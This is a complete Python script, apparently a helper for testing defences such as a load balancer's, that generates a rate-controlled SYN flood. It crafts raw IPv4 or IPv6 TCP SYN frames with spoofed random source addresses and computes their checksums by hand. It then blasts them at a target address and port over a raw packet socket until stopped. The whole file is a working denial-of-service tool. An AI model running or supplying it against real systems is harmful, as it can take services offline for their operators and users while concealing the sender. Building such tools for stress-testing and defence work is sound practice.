"""SYNs from addresses that nobody has:
`python synflood.py DEV OUR_MAC THEIR_MAC VIP PORT NET RATE`.

NET is the beginning of the sources' addresses ("198.18." or "2001:db8:1::"). It says "ready" and
how many it has sent once its standard input is closed.
"""

from __future__ import annotations

import ipaddress
import os
import random
import select
import socket
import struct
import sys
import time

FRAMES = 8192
BATCH_S = 0.005


def ones_sum(data: bytes) -> int:
    number = int.from_bytes(data + bytes(len(data) % 2), "big")
    return number % 0xFFFF or (0xFFFF if number else 0)


def frame(macs: bytes, source: str, vip: str, port: int, chance: random.Random) -> bytes:
    saddr, daddr = (ipaddress.ip_address(text).packed for text in (source, vip))
    options = bytes.fromhex("020405b40402080a00000001000000000103030a")
    sport, seq = chance.randrange(1024, 65536), chance.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 0xA0, 2, 64240, 0, 0) + options
    pseudo = saddr + daddr + struct.pack("!IHH", len(tcp), 0, 6)
    value = 0xFFFF - ones_sum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", value) + tcp[18:]
    if len(saddr) == 16:
        head = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + saddr + daddr
        return macs + b"\x86\xdd" + head + tcp
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + saddr + daddr
    head = head[:10] + struct.pack("!H", 0xFFFF - ones_sum(head)) + head[12:]
    return macs + b"\x08\x00" + head + tcp


def main(dev: str, ours: str, theirs: str, vip: str, port: str, net: str, rate: str) -> None:
    chance = random.Random(7)
    macs = bytes.fromhex(theirs.replace(":", "")) + bytes.fromhex(ours.replace(":", ""))

    def source() -> str:
        if ":" in net:
            return f"{net}{chance.randrange(1, 1 << 16):x}:{chance.randrange(1, 1 << 16):x}"
        return f"{net}{chance.randrange(256)}.{chance.randrange(1, 255)}"

    frames = [frame(macs, source(), vip, int(port), chance) for _ in range(FRAMES)]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((dev, 0))
        os.write(1, b"ready\n")
        sent, began = 0, time.monotonic()
        while not select.select([0], [], [], BATCH_S)[0]:
            due = int((time.monotonic() - began) * int(rate))
            for n in range(sent, min(due, sent + FRAMES)):
                sock.send(frames[n % FRAMES])
            sent = max(sent, min(due, sent + FRAMES))
        os.write(1, b"%d\n" % sent)


if __name__ == "__main__":
    main(*sys.argv[1:])
